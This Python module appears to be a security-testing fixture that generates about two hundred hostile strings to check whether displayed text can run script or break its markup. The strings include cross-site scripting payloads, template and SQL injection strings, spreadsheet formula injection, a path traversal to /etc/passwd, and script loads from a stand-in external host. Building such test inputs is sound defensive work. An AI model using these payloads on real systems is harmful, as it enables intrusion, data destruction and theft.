"""Two hundred strings that try to run a script, to break out of a text, or to break what shows them."""

from __future__ import annotations

from itertools import product

RUNS = "top.hit=1"
"""What each script would do; pages are looked at afterwards."""

OPENINGS = (
    "",
    '"',
    "'",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "`",
    '">',
    "'>",
    "</option></select>",
)
TAGS = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<math><mtext><script>{RUNS}</script></mtext></math>",
    f"<body onload={RUNS}>",
    f"<a href='javascript:{RUNS}'>x</a>",
    f"<form action='javascript:{RUNS}'><button>x</button></form>",
    f"<object data='javascript:{RUNS}'></object>",
    f"<meta http-equiv='refresh' content='0;url=javascript:{RUNS}'>",
)
OTHERS = (
    f'" onmouseover="{RUNS}" x="',
    f"' onfocus='{RUNS}' autofocus='",
    f"javascript:{RUNS}//",
    f"data:text/html,<script>{RUNS}</script>",
    f"{{{{ {RUNS} }}}}",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{first_name.__class__}",
    "${7*7}",
    "#{7*7}",
    "%s%s%n",
    "&lt;script&gt;top.hit=1&lt;/script&gt;",
    "&#60;script&#62;top.hit=1&#60;/script&#62;",
    "\\u003cscript\\u003etop.hit=1\\u003c/script\\u003e",
    "<scr<script>ipt>top.hit=1</scr</script>ipt>",
    "<ScRiPt>top.hit=1</sCrIpT>",
    "<script/src=//elsewhere.example/x.js></script>",
    "<style>@import '//elsewhere.example/x.css';</style>",
    "<base href='//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "'; DROP TABLE people; --",
    "' OR '1'='1",
    '=HYPERLINK("http://elsewhere.example")',
    "+33 6 00 00 00 00",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "../../../../etc/passwd",
    "Μodérateur",
    "a" * 400,
    "é" * 300,
)

HOSTILE: tuple[str, ...] = (*(opening + tag for opening, tag in product(OPENINGS, TAGS)), *OTHERS)
